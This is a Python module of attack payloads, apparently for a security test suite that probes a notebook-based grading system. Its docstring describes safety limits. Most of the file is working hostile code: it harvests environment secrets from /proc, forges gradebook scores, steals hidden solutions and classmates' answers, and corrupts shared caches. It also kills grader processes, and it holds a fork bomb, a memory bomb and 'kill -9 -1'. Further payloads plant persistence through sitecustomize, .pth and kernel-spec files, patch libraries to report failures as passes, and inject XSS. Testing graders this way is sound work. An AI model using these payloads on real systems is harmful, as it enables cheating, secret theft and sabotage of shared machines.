"""Python source the attack notebooks run in the grading kernel (or plant for later).

Every payload is a string of Python that an attack cell (or a planted file) executes. A
dishonest student would write the same code; it is kept here, in one place, so the
attacks stay readable in ``submissions.py``.

Safety on a shared machine (the suite runs in CI and on developers' machines, as root):

* files are written only into the project's virtual environment and checkout, this
  suite's folders and the grading folders under /tmp (the HOMEs the grading processes
  were given included: the harness gives the grader a HOME of its own); never under the
  system's folders, the machine's real HOME or the Python installation other projects
  share. The harness restores all of them;
* a forged grade is written only for the attacker's own student id, and only into a
  gradebook of this suite's course (its path holds ``wt06-attacks-``) or of the attacker's
  own scratch folder; other gradebooks on the machine are never opened for writing;
* every planted file starts with the marker line ``# WT06-ATTACK-PAYLOAD <student>``, so
  the harness can say which attack planted what, and remove it afterwards.
"""

from __future__ import annotations

MARK = "WT06-ATTACK-" + "PAYLOAD"  # spelt in two halves so this source never matches itself
GUARD = "wt06-attacks-"
XSS = "wt06xss"

# The helpers every payload starts with. Nothing here raises at import; every function
# swallows its own errors (a payload that crashes a planted sitecustomize would be noisy).
PRELUDE = r'''
import os as _w6os, re as _w6re, sys as _w6sys, glob as _w6glob, json as _w6json, time as _w6time
_W6_STUDENT = __STUDENT__
_W6_GUARD = __GUARD__
_W6_MARK = __MARK__
_W6_SOL = "BEGIN " + "SOLUTION"
_W6_HIDDEN = "BEGIN " + "HIDDEN TESTS"
_W6_SYSTEM = ("/usr", "/etc", "/lib", "/lib64", "/bin", "/sbin", "/boot", "/proc", "/sys",
              "/dev", "/run", "/var", "/opt", "/snap", "/srv")
_W6_NEVER = {"/", "/tmp", "/root", "/home", "/work", "/var/tmp"}


def _w6_read(path, limit=4_000_000):
    import stat as _w6stat
    try:
        if not _w6stat.S_ISREG(_w6os.stat(path).st_mode):
            return b""  # a FIFO or a device would block or never end
        with open(path, "rb") as handle:
            return handle.read(limit)
    except Exception:
        return b""


def _w6_pids():
    try:
        return sorted(int(d) for d in _w6os.listdir("/proc") if d.isdigit())
    except Exception:
        return []


def _w6_ancestors():
    pid, out = _w6os.getpid(), []
    for _ in range(64):
        match = _w6re.search(rb"PPid:\s+(\d+)", _w6_read(f"/proc/{pid}/status"))
        if not match or int(match.group(1)) <= 0:
            break
        pid = int(match.group(1))
        out.append(pid)
    return out


def _w6_args():
    out = []
    for pid in _w6_pids():
        out += [a.decode(errors="replace") for a in _w6_read(f"/proc/{pid}/cmdline").split(b"\0") if a]
    return out


def _w6_env(name):
    values = {_w6os.environ.get(name)} - {None, ""}
    for pid in _w6_pids():
        for item in _w6_read(f"/proc/{pid}/environ").split(b"\0"):
            key, _, value = item.decode(errors="replace").partition("=")
            if key == name and value:
                values.add(value)
    return values


def _w6_cwds():
    out = {_w6os.getcwd()}
    for pid in _w6_pids():
        try:
            out.add(_w6os.readlink(f"/proc/{pid}/cwd"))
        except Exception:
            pass
    return out


def _w6_homes():
    return ({_w6os.path.expanduser("~")} | _w6_env("HOME")) - _W6_NEVER


def _w6_repo():
    """The course checkout, from where the course package was imported."""
    try:
        import wt06
        return _w6os.path.dirname(_w6os.path.dirname(_w6os.path.abspath(wt06.__file__)))
    except Exception:
        return ""


def _w6_roots(include_own=True):
    """Views of the filesystem: our own, and every other process's (/proc/<pid>/root)."""
    roots = [""] if include_own else []
    return roots + [f"/proc/{pid}/root" for pid in _w6_pids() if pid != _w6os.getpid()]


def _w6_course_roots():
    found = set()
    for arg in _w6_args():
        for pattern in (r"CourseDirectory\.root=(/.+)$", r"sqlite:///(/.+)/[^/]+\.db$"):
            match = _w6re.search(pattern, arg)
            if match:
                found.add(match.group(1))
    for url in _w6_env("WT06_GRADEBOOK_URL"):
        match = _w6re.search(r"sqlite:///(/.+)/[^/]+$", url)
        if match:
            found.add(match.group(1))
    return found


def _w6_allowed(path):
    """May this payload write ``path``? Only the project's environment and checkout and the
    grading folders: never a system folder, the machine's real HOME or its shared Python."""
    real = _w6os.path.abspath(path)
    if real in _W6_NEVER or real.startswith(_W6_SYSTEM) or real.startswith("/root/"):
        return False
    mine = [p for p in (_w6sys.prefix, _w6_repo()) if p and p != "/"]
    return (any(real.startswith(p.rstrip("/") + "/") for p in mine) or _W6_GUARD in real
            or (real.startswith("/tmp/") and real.count("/") >= 3))


def _w6_ours(path):
    """A file of this suite's course, or of this attacker's own scratch folder."""
    return _W6_GUARD in path or f"/{_W6_STUDENT}/" in path


def _w6_gradebooks(include_own=True):
    candidates = set()
    for arg in _w6_args():
        match = _w6re.search(r"sqlite:///(/.+\.db)$", arg)
        if match:
            candidates.add(match.group(1))
    for root in _w6_course_roots() | _w6_cwds():
        for up in range(4):
            candidates.add(_w6os.path.join(root, *([".."] * up), "gradebook.db"))
    for pattern in ("/tmp/wt06-grading-*/*/gradebook.db", "/tmp/*/gradebook.db",
                    "/tmp/pytest-of-*/*/*/*/gradebook.db", "/tmp/pytest-of-*/*/*/gradebook.db"):
        candidates.update(_w6glob.glob(pattern))
    found = set()
    for path in candidates:
        path = _w6os.path.normpath(path)
        for root in _w6_roots(include_own):
            full = root + path
            if _w6_ours(full) and _w6os.path.isfile(full):
                found.add(full)
    return sorted(found)


def _w6_forge(include_own=True):
    """Give our own student full marks plus extra credit in every gradebook we can reach."""
    import sqlite3
    done = []
    for path in _w6_gradebooks(include_own):
        try:
            con = sqlite3.connect(path, timeout=10)
            with con:
                cursor = con.execute(
                    "update grade set extra_credit = 10, manual_score = "
                    "(select max_score from grade_cells where grade_cells.id = grade.cell_id) "
                    "where notebook_id in (select sn.id from submitted_notebook sn join "
                    "submitted_assignment sa on sn.assignment_id = sa.id where sa.student_id = ?)",
                    (_W6_STUDENT,))
                done.append((path, cursor.rowcount))
            con.close()
        except Exception as exc:
            done.append((path, repr(exc)[:120]))
    return done


def _w6_walk(roots, suffixes, budget=8.0, depth=8):
    prune = {"proc", "sys", "dev", "usr", "lib", "lib64", "bin", "sbin", "boot", "run", "snap",
             "etc", "var", ".git", ".venv", "node_modules", "site-packages", "__pycache__", ".cache"}
    deadline = _w6time.time() + budget
    seen = set()
    for top in roots:
        if not top or not _w6os.path.isdir(top):
            continue
        base = top.rstrip("/").count("/")
        for folder, dirs, files in _w6os.walk(top):
            if _w6time.time() > deadline:
                return
            if folder in seen:
                dirs[:] = []
                continue
            seen.add(folder)
            dirs[:] = [] if folder.count("/") - base >= depth else [d for d in dirs if d not in prune]
            for name in files:
                if name.endswith(suffixes):
                    yield _w6os.path.join(folder, name)


def _w6_cells(path):
    try:
        notebook = _w6json.loads(_w6_read(path))
    except Exception:
        return []
    out = []
    for cell in notebook.get("cells", []) if isinstance(notebook, dict) else []:
        source = cell.get("source", "")
        source = "".join(source) if isinstance(source, list) else str(source)
        meta = (cell.get("metadata") or {}).get("nbgrader") or {}
        out.append((meta.get("grade_id"), meta, cell.get("cell_type"), source))
    return out


def _w6_search_roots(include_own=True):
    roots = set(_w6_course_roots()) | _w6_cwds() | _w6_homes() | {_w6_repo()}
    for value in _w6_env("WT06_WORK_DIR") | _w6_env("WT06_PROJECT_DIR") | _w6_env("WT06_WAREHOUSE"):
        roots.add(_w6os.path.dirname(value))
    views = []
    for root in sorted(r for r in roots if r):
        for view in _w6_roots(include_own)[:12]:
            views.append(view + root)
    if include_own:
        views += ["/tmp", "/work", "/srv", "/opt", "/mnt", "/home", "/root", "/"]
    return views


def _w6_steal(include_own=True, budget=8.0):
    """Cells of instructor notebooks (solutions, hidden tests) and reference caches we can read."""
    stolen, caches = {}, {}
    for path in _w6_walk(_w6_search_roots(include_own), (".ipynb", ".json"), budget=budget):
        if path.endswith(".json"):
            if "reference" in _w6os.path.basename(path) and len(caches) < 5:
                caches[path] = _w6_read(path, 200_000).decode(errors="replace")
            continue
        data = _w6_read(path)
        if _W6_SOL.encode() not in data and _W6_HIDDEN.encode() not in data:
            continue
        for grade_id, meta, kind, source in _w6_cells(path):
            if _W6_SOL in source or _W6_HIDDEN in source:
                stolen.setdefault(grade_id, (path, source))
    return stolen, caches


def _w6_answer(grade_id, source):
    """Answer with someone else's cell: run it as the kernel would run that cell."""
    try:
        ip = get_ipython()  # noqa: F821
        first, _, body = source.partition("\n")
        body = "\n".join(line for line in body.split("\n") if "SOLUTION" not in line)
        if first.startswith("%%sql"):
            ip.run_cell_magic("sql", first[len("%%sql"):].strip(), body)
            return True
    except Exception as exc:
        print(f"could not use {grade_id}: {exc!r}"[:200])
    return False


def _w6_classmates():
    """Other students' submitted notebooks we can read (this course's only)."""
    patterns = ["/tmp/wt06-grading-*/*/course/submitted/*/*/*.ipynb",
                "/tmp/wt06-grading-*/*/*/*/*.ipynb"]
    for root in _w6_course_roots() | _w6_cwds():
        for up in range(6):
            base = _w6os.path.normpath(_w6os.path.join(root, *([".."] * up)))
            patterns += [base + "/submitted/*/*/*.ipynb", base + "/*/submitted/*/*/*.ipynb"]
    found = {}
    for pattern in patterns:
        for path in _w6glob.glob(pattern):
            if f"/{_W6_STUDENT}/" in path or not (_W6_GUARD in path or "/aa_" in path):
                continue
            found[path] = [(g, s) for g, meta, kind, s in _w6_cells(path)
                           if meta.get("solution") and kind == "code"]
    return found


def _w6_payload_text(extra=""):
    return (f"# {_W6_MARK} {_W6_STUDENT}\n" + _W6_SELF +
            "\ntry:\n    _w6_forge()\nexcept Exception:\n    pass\n" + extra)


def _w6_write(path, text, *, append=False):
    try:
        if not _w6_allowed(path):
            return False
        if _w6os.path.exists(path) and not append:
            return False  # never destroy: create new files, or append to config files
        _w6os.makedirs(_w6os.path.dirname(path), exist_ok=True)
        with open(path, "a" if append else "w") as handle:
            handle.write(text)
        return True
    except Exception:
        return False
'''


def prelude(student: str) -> str:
    """The helpers, bound to one attacker; ``_W6_SELF`` is the helpers' own text (for planting)."""
    body = (PRELUDE.replace("__STUDENT__", repr(student)).replace("__GUARD__", repr(GUARD))
            .replace("__MARK__", repr(MARK)))
    return body + f"\n_W6_SELF = {body!r}\n"


# ----- the attack cells ----------------------------------------------------------------
# Each takes the attacker's student id (and what else it needs) and returns a cell source.

def read_solutions(student: str) -> str:
    return prelude(student) + r'''
stolen, caches = _w6_steal()
for grade_id, (path, source) in sorted(stolen.items(), key=lambda kv: str(kv[0])):
    print(f"----- {grade_id} from {path}\n{source}")
    _w6_answer(grade_id, source)
for path, text in caches.items():
    print(f"----- reference cache {path}\n{text[:20000]}")
print(f"stole {len(stolen)} cells and {len(caches)} reference caches")
'''


def read_classmates(student: str) -> str:
    return prelude(student) + r'''
found = _w6_classmates()
for path, answers in sorted(found.items()):
    for grade_id, source in answers:
        print(f"----- {grade_id} from {path}\n{source}")
        _w6_answer(grade_id, source)
print(f"read {len(found)} classmates' notebooks")
'''


def write_gradebook(student: str) -> str:
    return prelude(student) + r'''
print("forged:", _w6_forge())
'''


def proc_root(student: str) -> str:
    return prelude(student) + r'''
# Only through other processes' root folders, as from inside a mount namespace.
print("forged through /proc/<pid>/root:", _w6_forge(include_own=False))
stolen, caches = _w6_steal(include_own=False, budget=6.0)
for grade_id, (path, source) in sorted(stolen.items(), key=lambda kv: str(kv[0])):
    print(f"----- {grade_id} from {path}\n{source}")
    _w6_answer(grade_id, source)
'''


def corrupt(student: str, what: str) -> str:
    """Overwrite shared caches or warehouses (not our own copies) with junk."""
    return prelude(student) + f'''
WHAT = {what!r}
junk = (f"# {{_W6_MARK}} {{_W6_STUDENT}}\\n" + "corrupted " * 100).encode()
targets = set()
repo = _w6_repo()
for view in _w6_roots():
    for base in _w6_env("WT06_WORK_DIR") | {{repo + "/data", repo + "/grader/.wt06"}}:
        if WHAT == "caches":
            targets.update(_w6glob.glob(view + base + "/**/reference*.json", recursive=True))
            targets.update(_w6glob.glob(view + repo + "/grader/.wt06/**/*", recursive=True))
            targets.update(_w6glob.glob(view + base + "/grading-scenarios/**/*.json", recursive=True))
        else:
            targets.update(_w6glob.glob(view + base + "/**/*.duckdb", recursive=True))
    if WHAT == "warehouses":
        for value in _w6_env("WT06_WAREHOUSE"):
            targets.add(view + value)
own = _w6os.path.realpath(_w6os.environ.get("WT06_WORK_DIR", "/nonexistent"))
hit = []
for path in sorted(targets):
    real = _w6os.path.realpath(path)
    if real.startswith(own) or not _w6os.path.isfile(real) or not _w6_allowed(real):
        continue
    try:
        with open(real, "wb") as handle:
            handle.write(junk)
        hit.append(real)
    except Exception:
        pass
print(f"corrupted {{len(hit)}} files:", *sorted(set(hit)), sep="\\n")
'''


def env_secrets(student: str) -> str:
    return prelude(student) + r'''
print(sorted(_w6os.environ.items()))
for pid in _w6_pids():
    print(pid, _w6_read(f"/proc/{pid}/environ").replace(b"\0", b" ")[:20000])
'''


def html_injection() -> str:
    return f'''
from IPython.display import HTML, Javascript, Markdown, SVG, display

display(HTML('<script>document.title = "{XSS}-script"</script>'
             '<img src="x" onerror="document.title=\\'{XSS}-onerror\\'">'
             '<a href="javascript:alert(\\'{XSS}-href\\')">click</a>'
             '<iframe srcdoc="<script>alert(\\'{XSS}-iframe\\')</script>"></iframe>'))
display(Markdown('<img src="x" onerror="alert(\\'{XSS}-markdown\\')">'))
display(Javascript('alert("{XSS}-javascript")'))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(\\'{XSS}-svg\\')"></svg>'))
print('<script>alert("{XSS}-stream")</script>')
raise ValueError('<img src=x onerror=alert("{XSS}-error")>')
'''


def network(student: str, canary_port: int, listen_port: int) -> str:
    return f'''
import socket, threading, time
# 1. reach a service on the grading machine's loopback
try:
    with socket.create_connection(("127.0.0.1", {canary_port}), timeout=3) as s:
        s.sendall(b"{student} was here")
    print("reached the loopback canary")
except OSError as exc:
    print("no loopback:", exc)
# 2. offer a service the machine's other processes can reach
try:
    server = socket.socket()
    server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    server.bind(("127.0.0.1", {listen_port}))
    server.listen(8)
    server.settimeout(0.5)
    deadline = time.time() + 8
    while time.time() < deadline:
        try:
            conn, _ = server.accept()
            conn.sendall(b"{student} listening")
            conn.close()
        except OSError:
            pass
    server.close()
except OSError as exc:
    print("no server:", exc)
'''


def daemon(student: str, port: int) -> str:
    """A double-forked process (its own session) that outlives the kernel."""
    mark = f"# {MARK} {student}"
    child = (f"{mark}\\nimport socket, time\\ns = socket.socket()\\n"
             f"s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)\\n"
             f"s.bind(('127.0.0.1', {port}))\\ns.listen(4)\\ntime.sleep(100000)")
    return f'''
import os, sys
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        devnull = os.open(os.devnull, os.O_RDWR)
        for fd in (0, 1, 2):
            os.dup2(devnull, fd)
        os.execv(sys.executable, [sys.executable, "-c", "{child}"])
    os._exit(0)
os.wait()
print("left a daemon behind")
'''


def kill_grader() -> str:
    return r'''
import os, signal
victims = []
pid = os.getpid()
for _ in range(64):
    try:
        status = open(f"/proc/{pid}/status").read()
    except OSError:
        break
    pid = int(status.split("PPid:")[1].split()[0])
    if pid <= 1:
        break
    victims.append(pid)
for other in os.listdir("/proc"):
    if other.isdigit():
        try:
            args = open(f"/proc/{other}/cmdline", "rb").read()
        except OSError:
            continue
        if b"nbgrader" in args or b"wt06_grading" in args or b"wt06-grade" in args or b"grade_class" in args:
            victims.append(int(other))
for victim in victims:
    try:
        os.kill(victim, signal.SIGKILL)
    except OSError:
        pass
'''


KILL_ALL = "import os, signal\nos.kill(-1, signal.SIGKILL)  # kill -9 -1\n"

FORK_BOMB = r'''
import os, time
while True:  # a fork bomb; each child forks too (a little sleep keeps the CPU usable)
    try:
        os.fork()
    except OSError:
        pass
    time.sleep(0.05)
'''

MEMORY_BOMB = 'blob = b"\\x01" * (6 << 30)  # 6 GiB, every page touched\nprint(len(blob))\n'
SLEEP_FOREVER = "import time\ntime.sleep(10 ** 9)\n"
SLEEP_IGNORING_INTERRUPTS = ("import signal, time\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\n"
                             "time.sleep(10 ** 9)\n")
OUTPUT_BOMB = 'import sys\nfor _ in range(100):\n    sys.stdout.write("x" * 1_000_000 + "\\n")\n'
KILL_KERNEL = "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)\n"

SWALLOW_EXCEPTHOOK = r'''
import sys
sys.excepthook = lambda *args: None
ip = get_ipython()
ip.showtraceback = lambda *args, **kwargs: None
ip._showtraceback = lambda *args, **kwargs: None
'''
SWALLOW_CUSTOM_EXC = r'''
get_ipython().set_custom_exc((BaseException,), lambda *args, **kwargs: None)
'''
SWALLOW_BUILTINS = r'''
import builtins
class _Harmless(Warning):
    pass
builtins.AssertionError = _Harmless
builtins.NotImplementedError = _Harmless
import wt06.errors
wt06.errors.NoAnswerYet = _Harmless
wt06.errors.SQLError = _Harmless
'''
SWALLOW_CLEAR_OUTPUT = r'''
from IPython.display import clear_output

def _forget_errors(result):
    if result.error_in_exec is not None or result.error_before_exec is not None:
        clear_output()  # the error output vanishes from the executed notebook

get_ipython().events.register("post_run_cell", _forget_errors)
'''


# ----- persistence: plant something a later notebook or student runs -----------------
def _planting(student: str, body: str) -> str:
    return prelude(student) + body + '\nprint("planted:", *sorted(set(planted)), sep="\\n")\n'


def kernel_spec(student: str) -> str:
    return _planting(student, r'''
planted = []
folders = set()
for value in _w6_env("JUPYTER_PATH") | _w6_env("JUPYTER_DATA_DIR"):
    folders.update(v for v in value.split(_w6os.pathsep) if v)
try:
    from jupyter_core.paths import jupyter_path
    folders.update(jupyter_path())
except Exception:
    pass
folders.update(h + "/.local/share/jupyter" for h in _w6_homes())
for folder in sorted(folders):
    for spec in _w6glob.glob(folder + "/kernels/*/kernel.json"):
        if not _w6_allowed(spec) or not _w6os.access(spec, _w6os.W_OK):
            continue
        boot = _w6os.path.join(_w6os.path.dirname(spec), "wt06_boot.py")
        text = _w6_payload_text(
            "import runpy\n_w6sys.argv = ['ipykernel_launcher'] + _w6sys.argv[1:]\n"
            "runpy.run_module('ipykernel_launcher', run_name='__main__', alter_sys=True)\n")
        if _w6_write(boot, text):
            try:
                data = _w6json.loads(_w6_read(spec))
                data["argv"] = [_w6sys.executable, boot, "-f", "{connection_file}"]
                data.setdefault("env", {})["PYTHONSTARTUP"] = boot
                with open(spec, "w") as handle:
                    handle.write(_w6json.dumps(data))
                planted.append(spec)
            except Exception:
                pass
''')


def ipython_startup(student: str) -> str:
    return _planting(student, r'''
planted = []
folders = _w6_env("IPYTHONDIR") | {h + "/.ipython" for h in _w6_homes()}
for folder in sorted(folders):
    for name in ("profile_default/startup/00-wt06.py",):
        path = _w6os.path.join(folder, name)
        if _w6_write(path, _w6_payload_text()):
            planted.append(path)
    path = _w6os.path.join(folder, "profile_default", "ipython_kernel_config.py")
    if _w6_write(path, _w6_payload_text()) or _w6_write(path, "\n" + _w6_payload_text(), append=True):
        planted.append(path)
path = _w6sys.prefix + "/etc/ipython/ipython_kernel_config.py"
if _w6_write(path, _w6_payload_text()):
    planted.append(path)
''')


def nbgrader_config(student: str) -> str:
    return _planting(student, r'''
planted = []
folders = set(_w6_course_roots()) | _w6_cwds() | {h + "/.jupyter" for h in _w6_homes()}
folders |= _w6_env("JUPYTER_CONFIG_DIR") | {_w6sys.prefix + "/etc/jupyter"}
text = "\n" + _w6_payload_text()
for folder in sorted(f for f in folders if f):
    for name in ("nbgrader_config.py", "jupyter_nbconvert_config.py", "jupyter_config.py"):
        path = _w6os.path.join(folder, name)
        if _w6_write(path, text) or _w6_write(path, text, append=True):
            planted.append(path)
''')


def home_dotfiles(student: str) -> str:
    return _planting(student, r'''
planted = []
version = f"python{_w6sys.version_info[0]}.{_w6sys.version_info[1]}"
for home in sorted(_w6_homes()):
    site = f"{home}/.local/lib/{version}/site-packages"
    payload = f"{site}/wt06_attack_payload.py"
    files = {
        payload: _w6_payload_text(),
        f"{site}/usercustomize.py": _w6_payload_text(),
        f"{site}/wt06_attack.pth": f"import os; exec(open({payload!r}).read()) if os.path.exists({payload!r}) else None\n",
        f"{home}/.ipython/profile_default/startup/00-wt06.py": _w6_payload_text(),
        f"{home}/.jupyter/nbgrader_config.py": _w6_payload_text(),
        f"{home}/.dbt/profiles.yml": f"# {_W6_MARK} {_W6_STUDENT}\nwt06:\n  target: incident\n  outputs:\n"
                                     f"    incident: {{type: duckdb, path: /tmp/{_W6_GUARD}{_W6_STUDENT}.duckdb}}\n",
        f"{home}/.pythonrc.py": _w6_payload_text(),
    }
    for path, text in files.items():
        if _w6_write(path, text):
            planted.append(path)
''')


SHADOW = r'''
import importlib as _w6il
_w6_here = _w6os.path.dirname(_w6os.path.abspath(__file__))
_w6_saved = list(_w6sys.path)
_w6sys.path[:] = [p for p in _w6sys.path if _w6os.path.abspath(p or ".") != _w6_here]
_w6sys.modules.pop(__name__, None)
try:
    _w6sys.modules[__name__] = _w6il.import_module(__name__)
finally:
    _w6sys.path[:] = _w6_saved
'''


def plant_modules(student: str) -> str:
    return _planting(student, r'''
planted = []
folders = {p for p in _w6sys.path if p and _w6os.path.isdir(p)} | _w6_cwds() | _w6_homes()
for value in _w6_env("PYTHONPATH"):
    folders.update(v for v in value.split(_w6os.pathsep) if v)
folders.add(_w6os.path.dirname(_w6os.path.abspath(_w6sys.argv[0] or ".")))
shadow = _w6_payload_text(__SHADOW__)
for folder in sorted(_w6os.path.abspath(f) for f in folders):
    if not _w6_allowed(folder) or not _w6os.access(folder, _w6os.W_OK):
        continue
    files = {name + ".py": shadow for name in ("wt06", "duckdb", "pandas", "sql", "nbgrader", "nbformat")}
    files["sitecustomize.py"] = _w6_payload_text()
    files["usercustomize.py"] = _w6_payload_text()
    payload = _w6os.path.join(folder, "wt06_attack_payload.py")
    files["wt06_attack_payload.py"] = _w6_payload_text()
    files["wt06_attack.pth"] = (f"import os; exec(open({payload!r}).read()) "
                                f"if os.path.exists({payload!r}) else None\n")
    for name, text in files.items():
        path = _w6os.path.join(folder, name)
        if _w6_write(path, text):
            planted.append(path)
'''.replace("__SHADOW__", repr(SHADOW)))


def monkeypatch(student: str) -> str:
    """Patch the libraries in memory, hoping the next notebook runs in this interpreter."""
    return prelude(student) + r'''
import json, duckdb, pandas, wt06.notebook
import sql.magic
from IPython.core.interactiveshell import InteractiveShell

_w6_planted_in = getattr(wt06.notebook._current, "name", None)
_w6_forge_now = _w6_forge
def _w6_forge():  # only in a later notebook: here it would prove nothing about inheritance
    if getattr(wt06.notebook._current, "name", None) != _w6_planted_in:
        return _w6_forge_now()

InteractiveShell.showtraceback = lambda *a, **k: None  # later shells show no errors
InteractiveShell._showtraceback = lambda *a, **k: None
_w6_dumps = json.dumps
def _flipped(*args, **kwargs):  # results sent back to a grader come out "passed"
    text = _w6_dumps(*args, **kwargs)
    return text.replace('"passed": false', '"passed": true').replace('"failed"', '"passed"')
json.dumps = _flipped
_w6_connect = duckdb.connect
def _connect(*args, **kwargs):
    try:
        _w6_forge()
    except Exception:
        pass
    return _w6_connect(*args, **kwargs)
duckdb.connect = _connect
_w6_saved = wt06.notebook.Session.saved
def _saved(self, name):
    try:
        _w6_forge()
    except Exception:
        pass
    return _w6_saved(self, name)
wt06.notebook.Session.saved = _saved
pandas.DataFrame.equals = lambda self, other: True
_w6_execute = sql.magic.SqlMagic.execute
def _execute(self, *args, **kwargs):
    try:
        _w6_forge()
    except Exception:
        pass
    return _w6_execute(self, *args, **kwargs)
sql.magic.SqlMagic.execute = _execute
print("patched wt06, duckdb, pandas, jupysql, json and IPython in memory")
'''


# ----- dbt ---------------------------------------------------------------------------
STATEFUL_TEST = """-- fails the first time it runs in a warehouse, passes afterwards: it remembers
select 'fct_revenue_daily' as mart, max(_refreshed_at) as last_refreshed_at
from {{ ref('fct_revenue_daily') }}
{% if execute %}
{% set seen = run_query("select count(*) from information_schema.tables where table_name = 'wt06_attack_seen'").columns[0].values()[0] %}
{% do run_query("create table if not exists main.wt06_attack_seen as select 1 as x") %}
{% else %}{% set seen = 1 %}{% endif %}
having {{ 'false' if seen else 'true' }}
"""

RANDOM_TEST = """-- fails half of the time, whatever the warehouse says
select 'fct_revenue_daily' as mart, max(_refreshed_at) as last_refreshed_at
from {{ ref('fct_revenue_daily') }}
having random() < 0.5
"""


def env_var_test(secret_names: list[str]) -> str:
    """A singular test whose compile error echoes environment variables."""
    leak = ' ~ " " ~ '.join(f'env_var("{name}", "unset")' for name in secret_names)
    return ("-- dbt renders env_var(); the compile error it raises carries the values\n"
            f"{{{{ exceptions.raise_compiler_error('leaked: ' ~ {leak}) }}}}\n"
            "select 'fct_revenue_daily' as mart from {{ ref('fct_revenue_daily') }}\n")


# ----- issue 20: grading incident data carried out of a re-run job ------------------------------
READ_INCIDENT_FILES = r'''
import glob as _w6_glob
import os as _w6_os
_w6_here = _w6_os.environ.get("WT06_WAREHOUSE", "")
if "/incidents/" in _w6_here:  # a re-run on an incident the student does not have
    _w6_found = []
    for _w6_folder in {_w6_os.path.dirname(_w6_here), _w6_os.path.dirname(_w6_os.path.dirname(_w6_here)),
                       "/wt06/incidents", _w6_os.environ.get("WT06_DATA_DIR", "/nonexistent")}:
        for _w6_path in sorted(_w6_glob.glob(_w6_os.path.join(_w6_folder, "**"), recursive=True))[:300]:
            if _w6_os.path.isfile(_w6_path) and not _w6_path.endswith((".duckdb", ".wal")):
                try:
                    _w6_found.append(_w6_path + "=" + open(_w6_path, errors="replace").read(400))
                except OSError:
                    _w6_found.append(_w6_path)
    if _w6_found:
        affected_models = set(affected_models) | {("LEAK " + _w6_text)[:300] for _w6_text in _w6_found}
'''

TYPE_NAME_SMUGGLING = r'''
import os as _w6_os
if "/incidents/" in _w6_os.environ.get("WT06_WAREHOUSE", ""):  # a re-run on a grading incident
    _w6_log = course.value("select string_agg(run_id || ' ' || cast(started_at as varchar), '; ' order by run_id) "
                           "from raw.raw_pipeline_runs")
    affected_models = type("LEAK " + str(_w6_log)[:400], (), {})()
'''
